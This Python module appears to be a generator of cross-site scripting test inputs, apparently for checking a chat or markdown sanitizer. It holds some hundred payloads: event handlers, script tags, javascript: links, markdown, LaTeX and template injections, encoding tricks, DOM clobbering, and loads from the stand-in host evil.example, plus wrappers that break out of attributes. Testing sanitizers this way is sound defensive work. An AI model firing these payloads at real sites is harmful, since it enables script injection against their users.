"""Texts that would run a script, or call somebody else's server, if a page took them for markup."""

import itertools

CALL = "alert(1)"
ELSEWHERE = "https://evil.example"
_WITH_HANDLER = [
    *(
        f"<{tag}=x onerror={CALL}>"
        for tag in ("img src", "video src", "audio src", "source src", "image href")
    ),
    *(
        f"<svg {handler}={CALL}>"
        for handler in ("onload", "onbegin", "onclick", "onfocus tabindex=0 autofocus")
    ),
    *(
        f"<{tag} autofocus onfocus={CALL}>"
        for tag in ("input", "textarea", "select", "button", "keygen", "a href=# tabindex=1")
    ),
    *(
        f"<{tag} onload={CALL}>"
        for tag in ("body", "iframe", "object", "link rel=stylesheet href=x", "style")
    ),
    *(
        f"<details open ontoggle={CALL}>",
        f"<marquee onstart={CALL}>",
        f"<video><source onerror={CALL}></video>",
    ),
    *(
        f"<p {handler}={CALL} style=animation:x>"
        for handler in ("onanimationstart", "onmouseenter", "onwheel")
    ),
]
_SCRIPTS = [
    *(f"<script>{CALL}</script>", f"<ScRiPt>{CALL}</sCrIpT>", f"<script src={ELSEWHERE}/x.js></script>"),
    *(f"<script/x>{CALL}</script>", f"<<script>{CALL}//<</script>", f"<svg><script>{CALL}</script></svg>"),
    *(f"<script\\n>{CALL}</script>", f"<scr<script>ipt>{CALL}</script>", f"\u2028<script>{CALL}</script>"),
    *(
        f"<template><script>{CALL}</script></template>",
        f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
    ),
    *(
        f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;"
        f"&lt;img src=x onerror={CALL}&gt;'>",
    ),
    *(
        f"<svg><style><img src=x onerror={CALL}></style></svg>",
        f"<svg><a xlink:href='javascript:{CALL}'>x</a></svg>",
    ),
    *(f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={CALL}>",),
    *(f"<iframe srcdoc='<script>{CALL}</script>'></iframe>", f"<iframe src=javascript:{CALL}></iframe>"),
    *(
        f"<object data=javascript:{CALL}></object>",
        f"<embed src=javascript:{CALL}>",
        f"<base href={ELSEWHERE}>",
    ),
    *(f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>", f"<link rel=prefetch href={ELSEWHERE}/x>"),
    *(
        f"<img src={ELSEWHERE}/a.png>",
        f"<video poster={ELSEWHERE}/a.png>",
        f"<p style='background:url({ELSEWHERE})'>",
    ),
    *(f"<style>@import '{ELSEWHERE}/x.css'</style>", f"<input type=image src={ELSEWHERE}/a.png>"),
]
_MARKDOWN = [
    *(
        f"[א]({scheme}:{CALL})"
        for scheme in ("javascript", "JaVaScRiPt", "vbscript", " javascript", "java\tscript")
    ),
    *(
        f"[א](<javascript:{CALL}>)",
        f"<javascript:{CALL}>",
        f"[א](&#106;avascript:{CALL})",
        f"[א](javascript&colon;{CALL})",
    ),
    *(
        f"[א](data:text/html,<script>{CALL}</script>)",
        f"[א]: javascript:{CALL}\n\n[א]",
        f"![א]({ELSEWHERE}/a.png)",
    ),
    *(
        f"![א](javascript:{CALL})",
        f"[![א]({ELSEWHERE}/a.png)]({ELSEWHERE})",
        f'[א]({ELSEWHERE} "x onmouseover={CALL}")',
    ),
    *(
        f'[א]({ELSEWHERE}"onmouseover={CALL})',
        f"{ELSEWHERE}/'onmouseover={CALL}",
        f'{ELSEWHERE}/"><img src=x onerror={CALL}>',
    ),
    *(
        f"```html\n<script>{CALL}</script>\n```",
        f'```"><img/src=x/onerror={CALL}>\nx\n```',
        f"`<img src=x onerror={CALL}>`",
    ),
    *(
        f"$\\href{{javascript:{CALL}}}{{x}}$",
        f"$\\includegraphics{{{ELSEWHERE}/a.png}}$",
        f"$\\text{{<img src=x onerror={CALL}>}}_1$",
    ),
    *(f"$$\\class{{x}}{{<script>{CALL}</script>}}$$", f"$\\style{{background:url({ELSEWHERE})}}{{x^2}}$"),
    *(
        f"| א |\n|---|\n| <img src=x onerror={CALL}> |",
        f"> <svg onload={CALL}>",
        f"- <img src=x onerror={CALL}>\n  - <b>",
    ),
    *(
        f"# <img src=x onerror={CALL}>",
        f"**<img src=x onerror={CALL}>**",
        f'a@b.example"><img/src=x/onerror={CALL}>',
    ),
    *(
        f"C:\\<img src=x onerror={CALL}>",
        f"[1]<img src=x onerror={CALL}>",
        f"{{{{constructor.constructor('{CALL}')()}}}}",
    ),
]
_TRICKS = [
    *(
        f"\u202e<img src=x onerror={CALL}>\u202c",
        f"<im\u0000g src=x onerror={CALL}>",
        f"<img src=x \u0000onerror={CALL}>",
    ),
    *(
        f"&lt;img src=x onerror={CALL}&gt;",
        f"&amp;lt;img src=x onerror={CALL}&amp;gt;",
        f"%3Cimg src=x onerror={CALL}%3E",
    ),
    *(
        f"\\u003cimg src=x onerror={CALL}\\u003e",
        f"\uff1cimg src=x onerror={CALL}\uff1e",
        f"+ADw-script+AD4-{CALL}+ADw-/script+AD4-",
    ),
    *(
        "<form id=chat><input name=attributes>",
        "<img name=currentScript src=x>",
        "<a id=chat-words><a id=chat-words name=content>",
    ),
    *(
        f"{{% debug %}}{{{{ request.user.password }}}}<img src=x onerror={CALL}>",
        f"${{{CALL}}}",
        f"<%= {CALL} %>",
        f"#{{{CALL}}}",
    ),
    *(
        f"<p style=behavior:url({ELSEWHERE}/x)>",
        f"</style><img src=x onerror={CALL}>",
        f"a{{}}*{{background:url({ELSEWHERE}/a)}}",
    ),
    *(
        f"javascript:{CALL}//https://safe.example",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        f"//{ELSEWHERE.removeprefix('https://')}/a.png",
    ),
    *(
        f"]]><img src=x onerror={CALL}>",
        f"<!--><img src=x onerror={CALL}>",
        f"<?xml version='1.0'?><x onload={CALL}>",
        f"<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{CALL}</x:script>",
    ),
]
_WRAPPINGS = ['">{}', "'>{}", "</textarea></title></script>{}", "--><!-- -->{}", "שלום {} עולם"]


def payloads(count: int = 200) -> list[str]:
    """Return that many different payloads: each as it is, then in what would break out of its place."""
    plain = [*_WITH_HANDLER, *_SCRIPTS, *_MARKDOWN, *_TRICKS]
    wrapped = (
        wrapping.replace("{}", payload)
        for wrapping, payload in itertools.product(_WRAPPINGS, [*_SCRIPTS, *_WITH_HANDLER])
    )
    return list(dict.fromkeys(itertools.chain(plain, wrapped)))[:count]
